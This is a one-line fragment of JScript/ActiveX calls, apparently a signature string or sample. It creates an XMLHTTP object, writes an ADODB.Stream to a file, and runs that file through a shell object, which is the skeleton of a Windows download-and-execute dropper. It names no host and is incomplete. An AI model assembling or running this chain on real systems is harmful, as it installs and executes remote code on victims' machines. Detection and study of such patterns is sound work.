new ActiveXObject("Microsoft.XMLHTTP"); new ActiveXObject("ADODB.Stream").SaveToFile("a"); sh.Run("a")
